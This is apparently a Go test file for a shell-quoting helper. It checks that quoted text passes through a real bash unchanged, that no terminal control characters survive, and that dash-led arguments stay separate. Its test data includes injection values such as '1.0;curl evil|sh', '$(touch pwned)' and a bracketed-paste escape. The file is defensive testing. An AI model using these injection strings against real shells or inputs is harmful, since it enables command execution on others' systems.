package shell

import (
	"os/exec"
	"strings"
	"testing"
)

// hostile are texts that a shell, a terminal or an option parser may act on.
var hostile = []string{
	"1.0;curl evil|sh", "$(touch pwned)", "`touch pwned`", "a\nb\ntouch pwned\n", "it's", `"; touch pwned; "`, `\`, `\'`, "-rf", "--token=x", "", " ", "*", "~", "a&b", "a>b", "#x", "!x",
	"\x03\x15touch pwned\n", "\x1b[201~touch pwned\n", "\u202eabc", "\u2028", "\x00x"[1:], "\xff\xfe'", "é\x07", "{a,b}", "a=b", "4.2.0", "ü", "\ufffd", "%x", "a\tb",
}

// What is quoted comes out of a real shell as it was, one word, and does nothing.
func TestQuote_ComesOutAsItWas(t *testing.T) {
	for _, text := range hostile {
		dir := t.TempDir()
		c := exec.Command("bash", "-c", "printf %s "+Quote(text)+"; printf /%s end")
		c.Dir = dir
		out, err := c.Output()
		if err != nil || string(out) != text+"/end" {
			t.Errorf("%q is quoted as %s and comes out as %q, %v", text, Quote(text), out, err)
		}
		if left, _ := exec.Command("ls", dir).Output(); len(left) != 0 {
			t.Errorf("%q did something: %s", text, left)
		}
	}
}

// A terminal gets nothing that it acts on while a command is pasted.
func TestQuote_HoldsNothingThatATerminalActsOn(t *testing.T) {
	for _, text := range hostile {
		if q := Quote(text); strings.ContainsFunc(q, unseen) {
			t.Errorf("%q is quoted as %q", text, q)
		}
	}
}

func TestOptionAndArguments_KeepDashesApart(t *testing.T) {
	for got, want := range map[string]string{
		Option("--release", "4.2.0"):       "--release 4.2.0",
		Option("--release", "-rf"):         "--release=-rf",
		Option("--release", "--x y"):       "--release='--x y'",
		Arguments("quayside/5", "a b"):     "quayside/5 'a b'",
		Arguments("a", "-b", "--c"):        "a -- -b --c",
		Arguments("1.0;curl evil|sh"):      "'1.0;curl evil|sh'",
		Quote("https://quayside.example/"): "https://quayside.example/",
	} {
		if got != want {
			t.Errorf("%s, want %s", got, want)
		}
	}
}

func FuzzQuote(f *testing.F) {
	for _, text := range hostile {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if strings.ContainsRune(text, 0) || len(text) > 200 {
			return
		}
		out, err := exec.Command("bash", "-c", "printf %s "+Quote(text)+"; printf /%s end").Output()
		if err != nil || string(out) != text+"/end" {
			t.Fatalf("%q is quoted as %s and comes out as %q, %v", text, Quote(text), out, err)
		}
	})
}
